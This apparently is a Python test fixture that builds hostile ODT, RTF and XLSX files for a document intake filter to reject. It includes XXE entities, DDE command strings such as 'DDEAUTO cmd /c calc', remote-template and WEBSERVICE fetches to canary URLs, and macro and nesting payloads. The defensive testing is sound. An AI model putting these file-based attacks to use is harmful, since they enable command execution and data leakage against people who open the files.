"""Hostile ODT, RTF and XLSX files."""

from __future__ import annotations

from tests.intake import offices
from tests.intake.attacks import Attack, Canary, fixed
from tests.intake.attacks_pages import png
from tests.intake.offices import formula, open_text, packed, relations, rich, row, sheet, sheet_parts, text, text_parts

_OUTSIDE = "leads to something that lies outside"
_IMAGE = '<text:p><draw:frame><draw:image xlink:href="{}"/></draw:frame></text:p>'
_SECTION = '<text:section text:name="s"><text:section-source xlink:href="{}"/><text:p/></text:section>'
_FRAME = '<text:p><draw:frame><draw:floating-frame xlink:href="{}"/></draw:frame></text:p>'
_DDE = (
    '<text:section text:name="s"><office:dde-source office:dde-application="soffice" office:dde-topic="{}"/>'
    "</text:section>"
)
_EVENT = (
    '<text:p><text:a xlink:href="http://example.org"><office:event-listeners><script:event-listener '
    'script:event-name="dom:mouseover" xlink:href="vnd.sun.star.script:x$y?language=Python"/></office:event-listeners>'
    "x</text:a></text:p>"
)


def _basic() -> bytes:
    return packed(text_parts("<text:p>x</text:p>", **{"Basic/Standard/Module1.xml": "<a/>"}), stored=("mimetype",))


def _object() -> bytes:
    parts = text_parts('<text:p><draw:frame><draw:object xlink:href="./Object 1"/></draw:frame></text:p>')
    return packed({**parts, "Object 1/content.xml": "<a/>"}, stored=("mimetype",))


def _encrypted_text() -> bytes:
    entry = (
        '<manifest:file-entry manifest:full-path="styles.xml" manifest:media-type="text/xml"><manifest:encryption-data '
        'manifest:checksum="x"/></manifest:file-entry>'
    )
    return open_text(manifest=entry)


def _meta_xxe(canary: Canary) -> bytes:
    meta = f'<!DOCTYPE a [<!ENTITY x SYSTEM "{canary.file}">]><a>&x;</a>'
    return packed(text_parts("<text:p>x</text:p>", **{"meta.xml": meta}), stored=("mimetype",))


def _svg(canary: Canary) -> bytes:
    entry = '<manifest:file-entry manifest:full-path="Pictures/a.svg" manifest:media-type="image/svg+xml"/>'
    drawn = (
        f'<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 9 9">'
        f'<image width="9" height="9" xlink:href="{canary.url}/s.png"/></svg>'
    )
    parts = text_parts(_IMAGE.format("Pictures/a.svg"), manifest=entry, **{"Pictures/a.svg": drawn})
    return packed(parts, stored=("mimetype",))


def _linked_book(kind: str, canary: Canary) -> bytes:
    parts = sheet_parts(row(1, text("A1", "x")), (kind, "more.xml"))
    parts["xl/more.xml"] = f"<externalLink {offices.CELLS}/>"
    parts["xl/_rels/more.xml.rels"] = relations(("externalLinkPath", f"{canary.url}/b.xlsx", "External"))
    return packed(parts)


def _macro_book() -> bytes:
    parts = sheet_parts(row(1, text("A1", "x")))
    kind = "application/vnd.ms-excel.sheet.macroEnabled.main+xml"
    parts["[Content_Types].xml"] = offices.types("/xl/workbook.xml", kind)
    return packed(parts)


def _formula(words: str, value: str | None = "42") -> bytes:
    return sheet(row(1, formula("A1", words, value)))


def _huge_picture() -> bytes:
    """An RTF that shows a PNG of 50,000 by 50,000 points."""
    return rich(f"{{\\pict\\pngblip {png(50_000, 50_000).hex()}}}")


ATTACKS = (
    Attack("image-http.odt", lambda canary: open_text(_IMAGE.format(f"{canary.url}/a.png")), _OUTSIDE),
    Attack("image-file.odt", lambda canary: open_text(_IMAGE.format(canary.picture)), _OUTSIDE),
    Attack("image-above.odt", fixed(lambda: open_text(_IMAGE.format("../canary.png"))), _OUTSIDE),
    Attack("section.odt", lambda canary: open_text(_SECTION.format(canary.file)), "section that lies in another file"),
    Attack("frame.odt", lambda canary: open_text(_FRAME.format(canary.file)), "frame that shows another file"),
    Attack("dde.odt", lambda canary: open_text(_DDE.format(canary.file)), "asks another program"),
    Attack("event.odt", fixed(lambda: open_text(_EVENT)), "macro"),
    Attack("basic.odt", fixed(_basic), "macros"),
    Attack("object.odt", fixed(_object), "embedded object"),
    Attack("encrypted.odt", fixed(_encrypted_text), "encrypted"),
    Attack("xxe-meta.odt", _meta_xxe, "DTD"),
    Attack("svg.odt", _svg, "SVG holds"),
    Attack("object.rtf", fixed(lambda: rich("{\\object\\objemb{\\*\\objdata 0105000002000000}}")), "embedded object"),
    Attack("object-spaced.rtf", fixed(lambda: rich("{\\object\\objocx{\\*\\objdata\r\n0105 00}}")), "embedded object"),
    Attack("template.rtf", lambda canary: rich(head=f"{{\\*\\template {canary.url}/t.dotm}}"), "template"),
    Attack("include.rtf", lambda canary: rich(_rtf_field(f'INCLUDEPICTURE "{canary.url}/i.png"')), "INCLUDEPICTURE"),
    Attack("include-spelled.rtf", lambda canary: rich(_rtf_field(f"INCL\\'55{{}}DE\\u84?EXT {canary.file}")),
           "INCLUDETEXT"),
    Attack("dde.rtf", fixed(lambda: rich(_rtf_field("DDEAUTO cmd /c calc"))), "DDEAUTO"),
    Attack("raw.rtf", fixed(lambda: rich("{\\pict\\pngblip\\bin5 }}}}}}")), "raw bytes"),
    Attack("deep.rtf", fixed(lambda: rich("{" * 100_000 + "}" * 100_000)), "too deep"),
    Attack("open.rtf", fixed(lambda: b"{\\rtf1 {{{"), "damaged"),
    Attack("huge-picture.rtf", fixed(_huge_picture), "more than 25,000,000 points"),
    Attack("external.xlsx", lambda canary: _linked_book("externalLink", canary), "other workbooks"),
    Attack("connections.xlsx", lambda canary: _linked_book("connections", canary), "connections"),
    Attack("macros.xlsm", fixed(_macro_book), "macros"),
    Attack("webservice.xlsx", lambda canary: _formula(f'WEBSERVICE("{canary.url}/w")'), "formula that fetches"),
    Attack("dde.xlsx", fixed(lambda: _formula("cmd|'/c calc'!A1")), "formula that fetches"),
    Attack("other-book.xlsx", lambda canary: _formula(f"'{canary.url}/[b.xlsx]First'!A1"), "formula that fetches"),
    Attack("unsaved.xlsx", fixed(lambda: _formula("1+1", None)), "was not saved"),
)  # fmt: skip


def _rtf_field(instruction: str) -> str:
    return f"{{\\field{{\\*\\fldinst {instruction}}}{{\\fldrslt x}}}}"
